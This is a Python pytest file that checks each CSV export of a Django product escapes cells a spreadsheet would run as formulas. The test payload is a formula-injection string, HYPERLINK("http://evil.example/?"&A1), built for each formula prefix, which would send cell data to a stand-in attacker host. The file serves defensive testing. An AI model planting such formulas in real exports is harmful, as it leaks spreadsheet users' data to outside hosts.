"""Every CSV the product writes neutralises cells a spreadsheet would run as formulas."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from core.audit import audit_record
from core.csvio import FORMULA_PREFIXES, csv_bytes, csv_spool, neutralise, unneutralise
from evidence import exports
from evidence.collect.base import EvidenceRef, PackData, Scope, SystemSection
from inventory.models import AISystem
from inventory.transfer import export_bytes
from tests.conftest import PASSWORD
from tests.discovery.factories import AppUsageTotalFactory, DiscoveredAppFactory, FindingFactory
from tests.factories import AISystemFactory

pytestmark = pytest.mark.django_db

PAYLOADS = {prefix: f'{prefix}HYPERLINK("http://evil.example/?"&A1)' for prefix in FORMULA_PREFIXES}
PREFIX_IDS = ["equals", "plus", "minus", "at", "tab", "cr"]


def _cells(raw: bytes) -> list[str]:
    text = raw.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _pack(systems=(), findings=(), evidence=()) -> PackData:
    today = dt.date(2026, 6, 30)
    data = PackData(
        scope=Scope("", None, today, today),
        generated_at=timezone.now(),
        organisation={},
        regimes=[],
        content_versions=[],
        systems=[SystemSection(system=s, anchor=f"sys-{s.pk}") for s in systems],
    )
    data.discovery = {"findings": list(findings)}
    data.evidence = list(evidence)
    return data


def _read(spool) -> bytes:
    with spool:
        return spool.read()


def site_core(payload: str, client, officer) -> bytes:
    return csv_bytes(["value"], [[payload]])


def site_inventory_export(payload: str, client, officer) -> bytes:
    AISystemFactory(name="Screening", team=payload)
    client.login(username=officer.username, password=PASSWORD)
    return client.get(reverse("inventory:system-export"), {"format": "csv"}).content


def site_inventory_transfer(payload: str, client, officer) -> bytes:
    AISystemFactory(name=payload)
    return export_bytes(AISystem.objects.all(), "csv")


def site_discovery_apps(payload: str, client, officer) -> bytes:
    DiscoveredAppFactory(host="llm.example.net", name=payload)
    AppUsageTotalFactory(host="llm.example.net")
    client.login(username=officer.username, password=PASSWORD)
    return client.get(reverse("discovery:app-export")).content


def site_pack_inventory(payload: str, client, officer) -> bytes:
    return _read(
        exports.inventory_csv(_pack(systems=[AISystemFactory(description="x", team=payload)]))
    )


def site_pack_findings(payload: str, client, officer) -> bytes:
    finding = FindingFactory(title=payload)
    return _read(exports.findings_csv(_pack(findings=[finding])))


def site_pack_evidence_index(payload: str, client, officer) -> bytes:
    ref = EvidenceRef(
        pk=1,
        name=payload,
        content_type="text/plain",
        size=1,
        sha256="a" * 64,
        uploaded_by="buyer",
        uploaded_at=None,
        effective_date=None,
        expiry_date=None,
        vendor="Vendor",
        system="",
        item="General",
    )
    return _read(exports.evidence_index_csv(_pack(evidence=[ref])))


def site_pack_audit(payload: str, client, officer) -> bytes:
    entry = audit_record(actor=officer, action="system.create", target_repr=payload)
    return _read(exports.audit_csv(_pack(), [entry]))


def site_audit_export(payload: str, client, officer) -> bytes:
    audit_record(actor=officer, action="system.create", target_repr=payload)
    client.login(username=officer.username, password=PASSWORD)
    response = client.get(reverse("audit-export"))
    return b"".join(response.streaming_content)


SITES = [
    site_core,
    site_audit_export,
    site_inventory_export,
    site_inventory_transfer,
    site_discovery_apps,
    site_pack_inventory,
    site_pack_findings,
    site_pack_evidence_index,
    site_pack_audit,
]


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=PREFIX_IDS)
@pytest.mark.parametrize("site", SITES, ids=lambda f: f.__name__.removeprefix("site_"))
def test_every_csv_writer_neutralises_formula_cells(site, prefix, client, officer):
    payload = PAYLOADS[prefix]
    cells = _cells(site(payload, client, officer))
    assert "'" + payload in cells
    assert payload not in cells
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=PREFIX_IDS)
def test_unneutralise_reads_back_what_was_written(prefix):
    payload = PAYLOADS[prefix]
    assert unneutralise(neutralise(payload)) == payload


def test_numbers_and_plain_text_are_written_as_they_are():
    assert neutralise(-2) == -2
    assert neutralise("Chatbot") == "Chatbot"
    assert unneutralise("'quoted") == "'quoted"
    assert _cells(csv_bytes(["n", "text", "none"], [[-2, "Chatbot", None]])) == [
        "n",
        "text",
        "none",
        "-2",
        "Chatbot",
        "",
    ]


def test_spooled_csv_is_rewound_and_closable():
    spool = csv_spool(["a"], [["=1"]])
    assert _cells(_read(spool)) == ["a", "'=1"]
    assert spool.closed
